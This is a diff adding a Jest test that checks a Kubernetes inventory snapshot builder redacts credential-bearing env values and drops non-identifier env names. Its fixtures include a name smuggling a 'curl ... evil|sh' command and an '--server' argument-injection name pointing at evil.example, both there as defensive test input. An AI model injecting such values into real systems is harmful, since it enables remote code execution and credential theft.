@@ -122,6 +122,21 @@ describe("the inventory snapshot", () => {
     expect(JSON.stringify(snap)).not.toContain("hunter2");
   });
 
+  it("redacts values that carry a credential whatever their name, and drops names that are not identifiers", () => {
+    const spec = { containers: [{ name: "app", env: [
+      { name: "DATABASE_URL", value: "postgres://app:s3cret@db:5432/shop" },
+      { name: "JAVA_OPTS", value: "-Xmx4g -Ddb.password=s3cret" },
+      { name: "SENTRY_DSN", value: "https://key@sentry.example/1" },
+      { name: "DB_PASS", value: "s3cret" },
+      { name: "JAVA_OPTS;curl${IFS}evil|sh;X", value: "-Xmx4g" },
+      { name: "--server", value: "https://evil.example/-Xmx4g" },
+      { name: "PLAIN_URL", value: "https://api.example.com/v1" },
+    ] }] };
+    const env = buildSnapshot({ pods: [{ metadata: { name: "p", namespace: "n", uid: "u" }, spec }] }, { complete: true }).workloads[0]!.containers[0]!.env;
+    expect(env).toEqual({ DATABASE_URL: ENV_REDACTED, JAVA_OPTS: ENV_REDACTED, SENTRY_DSN: ENV_REDACTED, DB_PASS: ENV_REDACTED, PLAIN_URL: "https://api.example.com/v1" });
+    expect(JSON.stringify(env)).not.toContain("s3cret");
+  });
+
   it("records nodes: allocatable and capacity memory, memory pressure, instance type", () => {
     expect(snap.nodes).toEqual([
       { name: "node-1", allocatableMemoryBytes: 15052868 * 1024, capacityMemoryBytes: 16203844 * 1024, memoryPressure: false, instanceType: "m6i.xlarge" },
